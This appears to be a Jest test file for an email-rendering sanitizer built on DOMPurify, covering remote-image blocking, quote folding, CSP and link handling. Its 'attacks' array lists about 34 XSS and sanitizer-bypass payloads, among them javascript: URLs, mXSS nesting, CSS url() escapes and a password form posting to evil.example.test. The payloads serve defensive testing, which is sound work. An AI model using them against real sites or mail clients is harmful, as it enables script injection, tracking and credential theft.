/** @jest-environment jsdom */
import createPurify from 'dompurify';
import { bringsOwnColors, mailFrame, type MailFrameOptions } from './mail-frame.ts';

const options: MailFrameOptions = {
  showImages: false,
  showQuote: false,
  imageOrigin: 'https://api.example.test',
  colors: { scheme: 'light', text: '#111111', link: '#222222' },
};
const build = (html: string, given: Partial<MailFrameOptions> = {}) =>
  mailFrame(createPurify, html, { ...options, ...given });
const bodyOf = (document: string) => new DOMParser().parseFromString(document, 'text/html').body;

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example.test"></object><embed src="https://evil.example.test">',
  '<form action="https://evil.example.test"><input name=password><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.test">',
  '<base href="https://evil.example.test/">',
  '<link rel="stylesheet" href="https://evil.example.test/x.css">',
  '<style>@import url(https://evil.example.test/x.css); body{background:url(https://evil.example.test/p)}</style>',
  '<div style="background:url(https://evil.example.test/p.gif)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example.test/p.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<video src="https://evil.example.test/v.mp4" autoplay></video><audio src="https://evil.example.test/a.mp3"></audio>',
  '<picture><source srcset="https://evil.example.test/p.png"><img src="https://evil.example.test/q.png"></picture>',
  '<img srcset="https://evil.example.test/p.png 1x" src="https://evil.example.test/q.png">',
  '<img data-remote-src="javascript:alert(1)">',
  '<body background="https://evil.example.test/p.gif" onload=alert(1)>',
  '<table background="https://evil.example.test/p.gif"><tr><td>x</td></tr></table>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<x onclick=alert(1) style="position:fixed;inset:0">cover</x>',
  '</body></html><script>alert(1)</script>',
  '"><script>alert(1)</script>',
];

describe('the frame of a mail', () => {
  it.each(attacks)('runs nothing and fetches nothing for %s', (html) => {
    const { document } = build(html);
    const body = bodyOf(document);
    expect(
      body.querySelectorAll(
        'script,iframe,object,embed,form,input,button,meta,base,link,style,svg,math,video,audio,source,template',
      ),
    ).toHaveLength(0);
    for (const element of body.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^srcset$|^background$|^action$/);
        expect(value).not.toMatch(/^\s*(?:java|vb)script:|^\s*data:text/i);
        if (name === 'src' || name === 'style') expect(value).not.toContain('evil.example.test');
      }
    }
  });

  it('forbids by policy what might slip through', () => {
    const { document } = build('<p>x</p>');
    const policy = /Content-Security-Policy" content="([^"]+)"/.exec(document)?.[1] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toContain('script-src');
    expect(policy).toContain('img-src https://api.example.test data:;');
  });

  it('holds remote images back until they are asked for', () => {
    const html = '<p>Hi</p><img data-remote-src="https://pics.example.test/a.png" alt="A">';
    const held = build(html);
    expect(held.hasBlockedImages).toBe(true);
    expect(bodyOf(held.document).querySelector('img')?.getAttribute('src')).toBeNull();
    const shown = build(html, { showImages: true });
    expect(shown.hasBlockedImages).toBe(false);
    const image = bodyOf(shown.document).querySelector('img');
    expect(image?.getAttribute('src')).toBe('https://pics.example.test/a.png');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('asks for a remote image over https only', () => {
    const { document } = build('<img data-remote-src="http://pics.example.test/a.png">', { showImages: true });
    expect(bodyOf(document).querySelector('img')?.getAttribute('src')).toBe('https://pics.example.test/a.png');
  });

  it('shows the pictures that came within the mail', () => {
    const { document, hasBlockedImages } = build(
      '<img src="https://api.example.test/attachments/1?signature=x"><img src="data:image/png;base64,AAAA">',
    );
    expect(hasBlockedImages).toBe(false);
    expect(bodyOf(document).querySelectorAll('img[src]')).toHaveLength(2);
  });

  it('folds quotes, unless the quote is all there is', () => {
    const html = '<p>Thanks</p><div data-quoted="true"><p>On Monday you wrote</p></div>';
    const folded = build(html);
    expect(folded.hasQuote).toBe(true);
    expect(folded.document).not.toContain('On Monday');
    expect(build(html, { showQuote: true }).document).toContain('On Monday');
    const forwarded = build('<blockquote type="cite">All of it</blockquote>');
    expect(forwarded.hasQuote).toBe(false);
    expect(forwarded.document).toContain('All of it');
  });

  it.each([
    ['Outlook', '<div>Thanks</div><div data-quoted="rest"></div><hr><div>From: us</div><div>old words</div>'],
    ['Outlook, within', '<div><p>Thanks</p><div><div data-quoted="rest">From: us</div></div><p>old words</p></div>'],
    ['a telephone', '<div>Thanks</div><div>-------- Originalnachricht --------</div><div>old words</div>'],
    ['Thunderbird', '<p>Thanks</p><div data-quoted="true">On …</div><blockquote type="cite">old words</blockquote>'],
  ])('folds what %s quotes, and shows it when asked', (_name, html) => {
    const folded = build(html);
    expect(folded.hasQuote).toBe(true);
    expect(folded.document).toContain('Thanks');
    expect(folded.document).not.toMatch(/old words|From: us/);
    expect(build(html, { showQuote: true }).document).toContain('old words');
  });

  it('folds nothing of a forwarded mail', () => {
    const html = '<div>See below</div><div>---------- Forwarded message ---------</div><div>From: Dev</div>';
    expect(build(html).hasQuote).toBe(false);
  });

  it('opens links elsewhere and tells the other side nothing', () => {
    const link = bodyOf(build('<a href="https://example.test/x">x</a>').document).querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('keeps what a mail looks like', () => {
    const { document } = build(
      '<table width="300" bgcolor="#eee"><tr><td style="padding: 8px; color: #333">x</td></tr></table>',
    );
    const body = bodyOf(document);
    expect(body.querySelector('table')?.getAttribute('width')).toBe('300');
    expect(body.querySelector('td')?.getAttribute('style')).toContain('padding');
  });

  it('puts mails with colours of their own on white paper', () => {
    expect(bringsOwnColors('<p style="color:#000">x</p>')).toBe(true);
    expect(bringsOwnColors('<td bgcolor="#fff">x</td>')).toBe(true);
    expect(bringsOwnColors('<p><b>x</b></p>')).toBe(false);
  });
});
